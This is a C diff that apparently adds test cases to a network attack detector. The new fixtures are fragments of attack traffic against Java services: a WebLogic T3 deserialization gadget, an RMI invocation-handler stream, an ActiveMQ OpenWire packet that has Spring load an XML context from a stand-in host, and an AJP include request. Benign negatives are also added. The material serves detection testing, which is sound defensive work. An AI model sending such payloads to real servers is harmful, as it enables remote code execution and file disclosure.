@@ -31,6 +31,27 @@ static const struct line SCALE[] = {{0, TEXT("W\r\n")},
                                     {1, TEXT("ST,GS,+  1.26 kg\r\n")}};
 static const struct line PRICES[] = {{0, TEXT("total > 100 # \n")}, {1, TEXT("cost $ \n")}};
 
+static const struct line T3[] = {{0, TEXT("t3 12.2.1\nAS:255\nHL:19\n\n")},
+                                 {1, TEXT("HELO:12.2.1.3.0.false\nAS:2048\n\n")},
+                                 {0, TEXT("\0\0\5\xf8\1\x65\1\xac\xed\0\5sr\0\x32sun.reflect."
+                                          "javax.management.BadAttributeValueExpException\0")}};
+static const struct line RMI[] = {
+    {0, TEXT("JRMI\0\2K")},
+    {1, TEXT("N\0\x09"
+             "10.0.0.2\0\0")},
+    {0, TEXT("P\xac\xed\0\5w\x22\0sr\0.java.rmi.server.RemoteObjectInvocationHandler\0")}};
+static const struct line OPENWIRE[] = {
+    {0, TEXT("\0\0\0\x7a\x1f\0\0\0\0\0\0\0\0\0\1\1\0\x42org.springframework.context.support."
+             "ClassPathXmlApplicationContext\1\0\x1ehttp://198.51.100.7/a.xml")}};
+static const struct line AJP[] = {{0, TEXT("\x12\x34\0\x80\2\2\0\x08HTTP/1.1\0\0\1/\0\x0a\0\x21"
+                                           "javax.servlet.include.request_uri\0\0\1/\0")}};
+/* An object of a shop's own program, and talk about such classes. */
+static const struct line OBJECT[] = {
+    {0,
+     TEXT("\xac\xed\0\5sr\0\x11java.util.HashMap\5\7\xda\xc1\xc3\x16`\xd1\3\0\2F\0\nloadFactor")}};
+static const struct line TALK[] = {
+    {0, TEXT("update org.apache.commons.collections, javax.servlet.include.request_uri\n")}};
+
 static const struct {
     const char *name, *record;
     const struct line *lines;
@@ -48,6 +69,12 @@ static const struct {
     {"numbers", NULL, NUMBERS, VG_ARRAY_LEN(NUMBERS), false},
     {"card", "\"service\":\"raw\",\"from_server\":false,\"cards\":1,\"last4\":\"1111\"", CARD,
      VG_ARRAY_LEN(CARD), true},
+    {"t3", "\"attack\":\"java_object\",\"attack_by_client\":true", T3, VG_ARRAY_LEN(T3), true},
+    {"rmi", "\"attack\":\"java_reference\"", RMI, VG_ARRAY_LEN(RMI), true},
+    {"openwire", "\"attack\":\"spring_context\"", OPENWIRE, VG_ARRAY_LEN(OPENWIRE), true},
+    {"ajp", "\"attack\":\"ajp_include\"", AJP, VG_ARRAY_LEN(AJP), true},
+    {"object", NULL, OBJECT, VG_ARRAY_LEN(OBJECT), false},
+    {"talk", NULL, TALK, VG_ARRAY_LEN(TALK), false},
     {"scale", NULL, SCALE, VG_ARRAY_LEN(SCALE), false},
     {"prices", NULL, PRICES, VG_ARRAY_LEN(PRICES), false},
 };
